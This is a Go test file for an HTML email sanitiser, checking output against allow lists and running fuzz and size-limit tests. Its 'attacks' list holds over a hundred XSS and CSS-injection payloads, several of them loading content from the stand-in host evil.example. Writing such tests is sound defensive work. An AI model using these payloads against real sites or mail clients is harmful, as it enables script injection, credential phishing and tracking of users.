package sanitize

import (
	"regexp"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"golang.org/x/net/html"
)

// outputPatterns is written apart from the policy on purpose: what may stand in the output, and how.
var outputPatterns = map[string]*regexp.Regexp{
	"href":        regexp.MustCompile(`^/open\?u=\d+$`),
	"target":      regexp.MustCompile(`^sink$`),
	"rel":         regexp.MustCompile(`^noopener noreferrer$`),
	"src":         regexp.MustCompile(`^data:image/(png|jpeg|jpg|gif|webp);base64,[A-Za-z0-9+/]+=*$`),
	"data-cid":    regexp.MustCompile(`^[^\r\n]+$`),
	"data-remote": regexp.MustCompile(`^\d+$`),
	"style":       regexp.MustCompile(`^(([a-z-]+): [#a-z0-9(),.% -]+(; |$))+$`),
	"align":       regexp.MustCompile(`^\w+$`), "valign": regexp.MustCompile(`^\w+$`), "dir": regexp.MustCompile(`^\w+$`),
	"width": regexp.MustCompile(`^\d{1,4}(px|%)?$`), "height": regexp.MustCompile(`^\d{1,4}(px|%)?$`),
	"border": regexp.MustCompile(`^\d{1,2}$`), "cellpadding": regexp.MustCompile(`^\d{1,2}$`), "cellspacing": regexp.MustCompile(`^\d{1,2}$`),
	"colspan": regexp.MustCompile(`^\d{1,3}$`), "rowspan": regexp.MustCompile(`^\d{1,3}$`), "start": regexp.MustCompile(`^\d+$`),
	"color": regexp.MustCompile(`^[#\w(),.% ]+$`), "bgcolor": regexp.MustCompile(`^[#\w(),.% ]+$`), "size": regexp.MustCompile(`^[+-]?\d$`),
	"face": regexp.MustCompile(`^[^"<>;:(){}\\]+$`), "lang": regexp.MustCompile(`^[\w-]+$`), "type": regexp.MustCompile(`^\w+$`),
	"alt": regexp.MustCompile(``), "title": regexp.MustCompile(``),
}

var outputElements = strings.Fields(`a abbr acronym address article aside b bdi big blockquote br caption center cite code col colgroup dd del
	dfn div dl dt em figcaption figure font footer h1 h2 h3 h4 h5 h6 header hr i img ins kbd li main mark nav ol p pre q s samp section small
	span strike strong sub sup table tbody td tfoot th thead tr tt u ul var wbr`)

var outputStyles = regexp.MustCompile(`^(background|background-color|color|display|font-size|font-style|font-weight|padding(-(top|right|bottom|left))?|text-align|text-decoration|vertical-align|white-space)$`)

// checkOutput parses sanitised HTML as a browser does, into a tree, and gives what may not be there.
func checkOutput(t *testing.T, source, output string) {
	t.Helper()
	if !utf8.ValidString(output) || strings.ContainsRune(output, 0) {
		t.Fatalf("not clean UTF-8: %q", output)
	}
	doc, err := html.Parse(strings.NewReader(output))
	if err != nil {
		t.Fatalf("%q: %v", output, err)
	}
	var walk func(n *html.Node)
	walk = func(n *html.Node) {
		switch n.Type {
		case html.ElementNode:
			checkElement(t, source, n)
		case html.CommentNode, html.DoctypeNode:
			t.Errorf("%q: comment or doctype in %q", source, output)
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			walk(c)
		}
	}
	walk(doc)
}

func checkElement(t *testing.T, source string, n *html.Node) {
	t.Helper()
	allowed := n.Namespace == "" && (n.Data == "html" || n.Data == "head" || n.Data == "body")
	for _, e := range outputElements {
		allowed = allowed || (n.Namespace == "" && n.Data == e)
	}
	if !allowed {
		t.Errorf("%q: element %s", source, n.Data)
	}
	for _, a := range n.Attr {
		pattern := outputPatterns[a.Key]
		if a.Namespace != "" || pattern == nil || !pattern.MatchString(a.Val) {
			t.Errorf("%q: attribute %s=%q", source, a.Key, a.Val)
		}
		if a.Key != "style" {
			continue
		}
		for _, d := range strings.Split(a.Val, "; ") {
			name, value, _ := strings.Cut(d, ":")
			if !outputStyles.MatchString(name) || strings.Contains(value, "url") || strings.Contains(value, "expression") {
				t.Errorf("%q: style %q", source, d)
			}
		}
	}
}

// attacks are ours; each must leave nothing outside the allow list.
var attacks = []string{
	`<script>alert(1)</script>`, `<SCRIPT SRC=http://evil.example/x.js></SCRIPT>`, `<scr<script>ipt>alert(1)</scr</script>ipt>`, `<script/x>alert(1)</script >`,
	`<img src=x onerror=alert(1)>`, `<img src=x onerror  =  "alert(1)">`, `<img/src=x/onerror=alert(1)>`, `<img src="x"onerror="alert(1)">`, "<img src=`x`onerror=alert(1)>",
	`<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`, `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`, `<svg><style><img src=x onerror=alert(1)></style></svg>`,
	`<svg><animate onbegin=alert(1) attributeName=x></svg>`, `<svg><use href="data:image/svg+xml,x#y"/></svg>`, `<svg><foreignObject><iframe src=x></iframe></foreignObject></svg>`,
	`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`, `<math href="javascript:alert(1)">x</math>`, `<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>`,
	`<iframe src="javascript:alert(1)">`, `<iframe srcdoc="<script>alert(1)</script>">`, `<frameset onload=alert(1)><frame src=x></frameset>`, `<object data="javascript:alert(1)">`, `<embed src="x.swf">`,
	`<applet code=x></applet>`, `<base href="http://evil.example/">`, `<meta http-equiv=refresh content="0;url=http://evil.example">`, `<link rel=stylesheet href=http://evil.example/x.css>`, `<link rel=prefetch href=http://evil.example/>`,
	`<form action="http://evil.example"><input name=senha type=password><button formaction="javascript:alert(1)">Entrar</button></form>`, `<input autofocus onfocus=alert(1)>`, `<select autofocus onfocus=alert(1)><option>x</select>`,
	`<textarea autofocus onfocus=alert(1)>`, `<keygen autofocus onfocus=alert(1)>`, `<isindex action=javascript:alert(1) type=image>`,
	`<a href="javascript:alert(1)">x</a>`, `<a href="JaVaScRiPt:alert(1)">x</a>`, "<a href=\"java\tscript:alert(1)\">x</a>", "<a href=\"java\nscript:alert(1)\">x</a>", `<a href="&#106;avascript:alert(1)">x</a>`, `<a href="&#x6A;avascript&colon;alert(1)">x</a>`,
	"<a href=\"\x01javascript:alert(1)\">x</a>", `<a href=" javascript:alert(1)">x</a>`, `<a href="vbscript:msgbox(1)">x</a>`, `<a href="data:text/html,<script>alert(1)</script>">x</a>`, `<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>`,
	`<a href="file:///etc/passwd">x</a>`, `<a href="wails://wails/x">x</a>`, `<a href="intent://x#Intent;scheme=http;end">x</a>`, `<a href="ms-msdt:/id">x</a>`, `<a href="blob:http://x/y">x</a>`, `<a href="view-source:http://x">x</a>`, `<a href="//evil.example">x</a>`, `<a href="/open?u=99">x</a>`,
	`<a href="http://ok.example" target="_top" onclick=alert(1) ping="http://evil.example" download>x</a>`, `<a href="http://ok.example" href="javascript:alert(1)">x</a>`, `<area href="javascript:alert(1)">`,
	`<map name=m><area shape=default href="http://evil.example"></map><img usemap=#m src=cid:x>`,
	`<div style="background:url(http://evil.example/x)">x</div>`, `<div style="background-image:url('javascript:alert(1)')">x</div>`, `<div style="width:expression(alert(1))">x</div>`, `<div style="behavior:url(x.htc)">x</div>`,
	`<div style="-moz-binding:url(x.xml#y)">x</div>`, `<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999">x</div>`, `<div style="position:absolute">x</div>`, `<div style="color:red;/*x*/position:fixed">x</div>`,
	`<div style="co\6cor:red;p\6fsition:fixed">x</div>`, `<div style="color:u\72l(http://evil.example)">x</div>`, `<div style="background:URL(http://evil.example)">x</div>`, `<div style="color:red;}body{background:url(//evil.example)">x</div>`,
	`<div style="font-family:'x;background:url(//evil.example)'">x</div>`, `<div style="margin-left:-10000px">x</div>`, `<div style="float:left;height:100000px">x</div>`, `<div style="content:attr(x)">x</div>`, `<div style="animation:x 1s">x</div>`,
	`<div style="list-style:url(http://evil.example)">x</div>`, `<div style="cursor:url(http://evil.example),auto">x</div>`, `<div style="font-size:99999px">x</div>`, `<div style="color:var(--x);--x:url(//evil.example)">x</div>`, `<p style="transform:scale(99)">x</p>`, `<p style="filter:url(#x)">x</p>`,
	`<style>@import "http://evil.example/x.css";</style>`, `<style>a[href^=http]{background:url(http://evil.example)}</style>`, `<style><!--</style><img src=x onerror=alert(1)>-->`,
	`<table background="http://evil.example/x.png"><tr><td background=//evil.example/x>x</td></tr></table>`, `<body background="http://evil.example" onload=alert(1)>x</body>`,
	`<img src="http://evil.example/x.png" srcset="http://evil.example/y.png 2x">`, `<img src="//evil.example/x.png">`, `<img src="file:///x.png">`, `<img src="data:image/svg+xml;base64,PHN2Zz4=">`, `<img src="data:text/html,x">`,
	`<img src="data:image/png,<script>">`, `<img src="javascript:alert(1)">`, `<img lowsrc="http://evil.example">`, `<img dynsrc="http://evil.example">`, `<picture><source srcset="http://evil.example/x"><img src=x></picture>`,
	`<img data-cid="x" data-remote="0" src="/outro">`, `<img src="cid:x&quot; onerror=&quot;alert(1)">`, `<img alt="x&quot; onerror=&quot;alert(1)" src="cid:x">`, `<img src="wails://x">`,
	`<video src="http://evil.example/x" autoplay onplay=alert(1)></video>`, `<audio src="http://evil.example/x" autoplay></audio>`, `<video poster="http://evil.example/x"><track src=x></video>`, `<bgsound src="http://evil.example/x">`,
	`<marquee onstart=alert(1)>x</marquee>`, `<details open ontoggle=alert(1)>x</details>`, `<dialog open>x</dialog>`, `<blink>x</blink>`, `<portal src=x>`, `<layer src=x>`, `<ilayer src=x>`, `<xml><x></x></xml>`, `<xss onpointerenter=alert(1)>x</xss>`,
	`<template><script>alert(1)</script></template>`, `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`, `<title><img src=x onerror=alert(1)></title>`, `<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>`, `<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>`,
	`<plaintext><img src=x onerror=alert(1)>`, `<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>`, `<noframes><style></noframes><img src=x onerror=alert(1)></style>`,
	`<!--><img src=x onerror=alert(1)>-->`, `<!--[if gte mso 9]><script>alert(1)</script><![endif]-->`, `<![CDATA[<img src=x onerror=alert(1)>]]>`, `<?xml version="1.0"?><?php x ?><img src=x onerror=alert(1)>`, `<!DOCTYPE html [<!ENTITY x "y">]>x`, `<!-- --!><img src=x onerror=alert(1)> -->`,
	`<div id=go class=window name=runtime>x</div>`, `<a name=go id=runtime>x</a>`, `<img name=body id=x>`, `<p contenteditable onblur=alert(1)>x</p>`, `<p accesskey=x tabindex=1 autofocus onfocus=alert(1)>x</p>`, `<p is=x slot=y part=z>x</p>`, `<p xmlns="http://www.w3.org/2000/svg" xml:base="javascript:">x</p>`,
	`<div/onmouseover=alert(1)>x`, `<div onmouseover`, `<p title="a" title="b" onclick=x>`, `<a href='http://x.example" onclick="alert(1)'>x</a>`, "<p title=\"a\x00b\" on\x00click=alert(1)>x", "<scr\x00ipt>alert(1)</script>", "<img src=x on\u0000error=alert(1)>", "\xf6<img src=x onerror=alert(1)>",
	`<table><tr><td></table><script>alert(1)</script>`, `<p></p></body></html><script>alert(1)</script>`, `</div></div></iframe><img src=x onerror=alert(1)>`, `<<script>alert(1);//<</script>`, `<a <b href="javascript:x">x`, `<a href="http://x.example/`, `<img src="http://evil.example/x`,
	`<font face="x;background:url(//evil.example)" color="javascript:alert(1)" size=999>x</font>`, `<td width=100000 height="expression(x)" colspan=99999999>x</td>`, `<ol type="x" start="-9999999">`,
}

var openedSchemes = regexp.MustCompile(`^(https?://|mailto:|tel:)`)

func TestAttacks(t *testing.T) {
	if len(attacks) < 80 {
		t.Fatalf("only %d attacks", len(attacks))
	}
	for _, a := range attacks {
		for _, source := range []string{a, `<p>antes</p><div title="` + a, "<table><tr><td>" + a + "</td></tr></table>", a + a} {
			r := HTML([]string{source}, nil)
			checkOutput(t, source, r.HTML)
			for _, l := range r.Links {
				if !openedSchemes.MatchString(l.URL) {
					t.Errorf("%q: link %q", source, l.URL)
				}
			}
		}
	}
}

func TestHonestMailIsKept(t *testing.T) {
	cases := []struct{ name, in, want string }{
		{"text", `<p>Olá, <b>João</b>!<br>Tudo&nbsp;bem?</p>`, "<p>Olá, <b>João</b>!<br>Tudo\u00a0bem?</p>"},
		{"style", `<span style="COLOR:#F00; font-weight:bold!important;position:fixed">x</span>`, `<span style="color: #f00; font-weight: bold">x</span>`},
		{"plain part of ours", `<pre style="white-space: pre-wrap">a &lt; b</pre>`, `<pre style="white-space: pre-wrap">a &lt; b</pre>`},
		{"table", `<table border=0 cellpadding=3 width="100%"><tr><td align=right bgcolor="#fff">1</td></tr></table>`, `<table border="0" cellpadding="3" width="100%"><tr><td align="right" bgcolor="#fff">1</td></tr></table>`},
		{"form keeps its words", `<form>Nome <input><button>Enviar</button></form>`, `<div>Nome <span>Enviar</span></div>`},
		{"unknown elements keep their words", `<o:p>oi</o:p> <foo>você</foo>`, `oi você`},
		{"open elements are closed", `<div><b>oi`, `<div><b>oi</b></div>`},
		{"stray end tags", `oi</div></td></b> você`, `oi você`},
		{"stray end tag in a cell", `<div><table><tr><td>a</div>b</td></tr></table></div>`, `<div><table><tr><td>ab</td></tr></table></div>`},
		{"paragraph before block", `<p>a<p>b<div>c</div>`, `<p>a</p><p>b</p><div>c</div>`},
		{"small picture", `<img src="data:image/png;base64,iVBORw0KGgo=" alt=x>`, `<img src="data:image/png;base64,iVBORw0KGgo=" alt="x">`},
		{"picture of the mail", `<img src="cid:foto%40x" width=10>`, `<img data-cid="foto@x" width="10">`},
		{"preview stays hidden", `<div style="display:none">prévia</div>oi`, `<div style="display: none">prévia</div>oi`},
		{"link", `<a href="https://loja.example/?a=1&amp;b=2" class=x>Loja</a>`, `<a href="/open?u=0" target="sink" rel="noopener noreferrer">Loja</a>`},
		{"link in link", `<a href="http://a.example">a<a href="http://b.example">b</a>`, `<a href="/open?u=0" target="sink" rel="noopener noreferrer">a</a><a href="/open?u=1" target="sink" rel="noopener noreferrer">b</a>`},
		{"unclosed object", `<p>a</p><object data=x><p>b</p><svg><i>c`, `<p>a</p><p>b</p><i>c</i>`},
		{"stray ends of unread elements", `</object></svg><object>x</object>a<svg>y</svg>b</noscript><noscript>z</noscript>c`, `abc`},
		{"nested unread elements", `a<svg><svg>x</svg>y</svg>b`, `ab`},
		{"code", `<style>p{}</style><script>x</script><title>t</title>a<script></script>b`, `ab`},
		{"anchor", `<a name=x>oi</a><a href="#x">sobe</a>`, `<a>oi</a><a>sobe</a>`},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			if got := HTML([]string{c.in}, nil).HTML; got != c.want {
				t.Errorf("got  %s\nwant %s", got, c.want)
			}
		})
	}
}

func TestPartsCannotReachEachOther(t *testing.T) {
	r := HTML([]string{`<img src="http://evil.example/`, `segredo`, `"><p>fim<table><tr><td><a href="http://x.example">`, `<b>depois</b>`}, nil)
	checkOutput(t, "parts", r.HTML)
	if len(r.RemoteImages) != 0 || !strings.Contains(r.HTML, "segredo") || !strings.HasSuffix(r.HTML, "</a></td></tr></table><b>depois</b>") {
		t.Errorf("got %q, remote %q", r.HTML, r.RemoteImages)
	}
}

func TestRemoteImages(t *testing.T) {
	r := HTML([]string{`<img src="http://a.example/1.png"><img src="HTTPS://b.example/2 3.png">`, `<img src="http://a.example/1.png" width=10 height=10><img src="http://a.example/open.gif" height="1px">`}, nil)
	if got := strings.Join(r.RemoteImages, " "); got != "http://a.example/1.png https://b.example/2%203.png" {
		t.Errorf("remote images %q", got)
	}
	if want := `<img data-remote="0"><img data-remote="1"><img data-remote="0" width="10" height="10"><img height="1px">`; r.HTML != want {
		t.Errorf("got %s", r.HTML)
	}
	shown := WithFilling(r.HTML, Filling{Remote: func(place int) (string, bool) {
		return []string{"data:image/png;base64,AAAA", "https://evil.example/"}[place], true
	}})
	if want := `<img data-remote="0" src="data:image/png;base64,AAAA"><img data-remote="1"><img data-remote="0" width="10" height="10" src="data:image/png;base64,AAAA"><img height="1px">`; shown != want {
		t.Errorf("shown %s", shown)
	}
}

func TestInlineImages(t *testing.T) {
	known := func(src string) func(string) (string, bool) {
		return func(id string) (string, bool) { return src, id == "a@x" }
	}
	const source = `<p><img src="cid:a@x"><img src="CID:outra">&lt;img data-cid=x&gt;</p>`
	for src, want := range map[string]string{
		"/anexo/1": `<img data-cid="a@x" src="/anexo/1">`, "data:image/gif;base64,AAAA": `<img data-cid="a@x" src="data:image/gif;base64,AAAA">`,
		"https://evil.example": `<img data-cid="a@x">`, "//evil.example": `<img data-cid="a@x">`, `/\evil.example`: `<img data-cid="a@x">`, "javascript:x": `<img data-cid="a@x">`,
	} {
		want = `<p>` + want + `<img data-cid="outra">&lt;img data-cid=x&gt;</p>`
		if got := HTML([]string{source}, known(src)).HTML; got != want {
			t.Errorf("at once: %s", got)
		}
		if got := WithFilling(HTML([]string{source}, nil).HTML, Filling{Inline: known(src)}); got != want {
			t.Errorf("later: %s", got)
		}
	}
}

func TestLimits(t *testing.T) {
	cases := map[string]string{
		"text": strings.Repeat("bom dia ", 5<<20/8), "nested tags": strings.Repeat("<div><b>", 100_000) + "fundo", "nested links": strings.Repeat(`<a href="http://x.example">`, 200_000),
		"end tags": strings.Repeat("<table><tr><td><b>", 1000) + strings.Repeat("</i></div></b>", 300_000), "brackets": strings.Repeat("<", 5<<20), "open quote": strings.Repeat(`<a title="`, 500_000),
		"attributes": "<p " + strings.Repeat("a=b ", 1<<20) + ">x", "styles": `<p style="` + strings.Repeat("color:red;", 400_000) + `">x`, "many styles": strings.Repeat(`<p style="color:red;font-weight:bold">x</p>`, 100_000),
		"comments": strings.Repeat("<!--", 1<<20), "unclosed svg": strings.Repeat("<svg>", 1<<20), "pictures": strings.Repeat(`<img src="http://x.example/`, 180_000), "entities": strings.Repeat("&amp;&#x1f600;&nosuch;", 200_000),
		"words with dots": `<a href="http://x.example">` + strings.Repeat("a.b.c.", 800_000), "address": `<a href="http://` + strings.Repeat("x@", 2<<20) + `">x</a>`, "table cells": strings.Repeat("<td>x", 800_000),
	}
	for name, source := range cases {
		t.Run(name, func(t *testing.T) {
			source = source[:min(len(source), maxInput/raceFactor)]
			start := time.Now()
			r := HTML([]string{source}, nil)
			if took := time.Since(start); took > 3*time.Second*raceFactor {
				t.Errorf("took %v for %d bytes", took, len(source))
			}
			if n := strings.Count(r.HTML, "<") - strings.Count(r.HTML, "</"); n > maxElements {
				t.Errorf("%d elements", n)
			}
			if depth := maxNesting(r.HTML); depth > maxDepth {
				t.Errorf("nested %d deep", depth)
			}
			if strings.Contains(source, "fundo") && !strings.Contains(r.HTML, "fundo") {
				t.Error("the words are lost")
			}
		})
	}
	if r := HTML([]string{strings.Repeat("a", maxInput), "b"}, nil); !r.Truncated || len(r.HTML) != maxInput {
		t.Errorf("truncated %v, %d bytes", r.Truncated, len(r.HTML))
	}
}

func maxNesting(output string) int {
	depth, deepest := 0, 0
	z := html.NewTokenizer(strings.NewReader(output))
	for {
		switch z.Next() {
		case html.ErrorToken:
			return deepest
		case html.StartTagToken:
			if name, _ := z.TagName(); !isVoid(string(name)) {
				depth++
			}
		case html.EndTagToken:
			depth--
		}
		deepest = max(deepest, depth)
	}
}

func tagsOf(output string) string {
	var tags []string
	z := html.NewTokenizer(strings.NewReader(output))
	for {
		switch kind := z.Next(); kind {
		case html.ErrorToken:
			return strings.Join(tags, " ")
		case html.StartTagToken, html.EndTagToken, html.SelfClosingTagToken:
			name, _ := z.TagName()
			tags = append(tags, kind.String()+string(name))
		}
	}
}

func FuzzHTML(f *testing.F) {
	for _, a := range attacks {
		f.Add(a, "<p>fim</p>")
	}
	f.Add("<table><tr><td><p>a<p>b</div></table>", `<a href="https://x.example">y`)
	f.Fuzz(func(t *testing.T, first, second string) {
		r := HTML([]string{first, second}, func(string) (string, bool) { return "data:image/png;base64,AAAA", true })
		checkOutput(t, first+"|"+second, r.HTML)
		again := HTML([]string{r.HTML}, nil)
		checkOutput(t, r.HTML, again.HTML)
		if tagsOf(again.HTML) != tagsOf(r.HTML) {
			t.Fatalf("not stable:\n%s\n%s", r.HTML, again.HTML)
		}
		for i, l := range r.Links {
			if l.Token != Token(i) || !utf8.ValidString(l.URL+l.Text+l.Host) {
				t.Fatalf("link %d: %+v", i, l)
			}
		}
	})
}
